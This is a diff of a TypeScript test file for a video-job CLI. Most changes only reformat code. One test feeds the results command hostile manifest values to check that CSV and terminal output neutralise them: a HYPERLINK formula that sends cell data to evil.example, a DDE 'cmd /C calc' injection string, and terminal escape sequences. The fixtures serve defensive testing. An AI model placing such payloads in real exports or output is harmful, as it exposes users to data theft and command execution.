@@ -14,8 +14,12 @@ describe('the reelflow command', () => {
   let sim: SimHandleExt;
   const env = { ...process.env, GATEWAY_API_KEY: KEY, TEMPORAL_ADDRESS: undefined };
 
-  before(async () => { sim = await startSimulator({ ports: [0], keys: [KEY] }); });
-  after(async () => { await sim?.close(); });
+  before(async () => {
+    sim = await startSimulator({ ports: [0], keys: [KEY] });
+  });
+  after(async () => {
+    await sim?.close();
+  });
 
   it('--help lists every command of the spec', async () => {
     const result = await runCli(['--help'], { env });
@@ -43,7 +47,14 @@ describe('the reelflow command', () => {
 
   it('results reads the manifest as a table, JSON or CSV', async () => {
     const dir = tempDir();
-    const job = writeJob(dir, { name: 'res', baseUrls: sim.urls, items: [{ id: 'one', prompt: 'p1' }, { id: 'two', prompt: 'p2' }] });
+    const job = writeJob(dir, {
+      name: 'res',
+      baseUrls: sim.urls,
+      items: [
+        { id: 'one', prompt: 'p1' },
+        { id: 'two', prompt: 'p2' },
+      ],
+    });
     const { mkdirSync } = await import('node:fs');
     mkdirSync(join(dir, 'out'));
     const rows = [
@@ -59,7 +70,10 @@ describe('the reelflow command', () => {
     assert.equal(csv.stdout.split('\n')[0], 'index,key,state,model,task_id,base_url,polls,file,bytes,sha256,error');
     assert.match(csv.stdout, /"render_failed: content policy, ""quoted"""/);
     const json = JSON.parse((await runCli(['results', job, '--format', 'json'], { env })).stdout) as Array<{ key: string }>;
-    assert.deepEqual(json.map((r) => r.key), ['one', 'two']);
+    assert.deepEqual(
+      json.map((r) => r.key),
+      ['one', 'two'],
+    );
     const bad = await runCli(['results', job, '--format', 'xml'], { env });
     assert.equal(bad.code, 2);
     assert.match(bad.stderr, /--format must be table, json or csv/);
@@ -67,13 +81,32 @@ describe('the reelflow command', () => {
 
   it('results make gateway text inert: no formulas in CSV cells, no control sequences on the terminal, long ids cut in tables only', async () => {
     const dir = tempDir();
-    const job = writeJob(dir, { name: 'hostile', baseUrls: sim.urls, items: [{ id: 'one', prompt: 'p1' }, { id: 'two', prompt: 'p2' }, { id: 'three', prompt: 'p3' }] });
+    const job = writeJob(dir, {
+      name: 'hostile',
+      baseUrls: sim.urls,
+      items: [
+        { id: 'one', prompt: 'p1' },
+        { id: 'two', prompt: 'p2' },
+        { id: 'three', prompt: 'p3' },
+      ],
+    });
     const { mkdirSync } = await import('node:fs');
     mkdirSync(join(dir, 'out'));
     const longId = `video_${'x'.repeat(124)}`;
     const rows = [
-      manifestRow(1, { key: 'one', task_id: '=HYPERLINK("http://evil.example/?"&A1,"open")', file: '001-one.mp4', bytes: 10, sha256: 'ab'.repeat(32) }),
-      manifestRow(2, { key: 'two', task_id: longId, state: 'failed', error: { kind: 'render_failed', message: '+cmd|\' /C calc\'!A0 \u001b]0;pwned\u0007\u001b[2J\u001b[1Aafter' } }),
+      manifestRow(1, {
+        key: 'one',
+        task_id: '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        file: '001-one.mp4',
+        bytes: 10,
+        sha256: 'ab'.repeat(32),
+      }),
+      manifestRow(2, {
+        key: 'two',
+        task_id: longId,
+        state: 'failed',
+        error: { kind: 'render_failed', message: "+cmd|' /C calc'!A0 \u001b]0;pwned\u0007\u001b[2J\u001b[1Aafter" },
+      }),
       manifestRow(3, { key: 'three', state: 'failed', error: { kind: 'render_failed', message: '@SUM(1+1)\u009b31m' } }),
     ];
     writeFileSync(join(dir, 'out', 'manifest.jsonl'), rows.map((r) => JSON.stringify(r)).join('\n') + '\n');
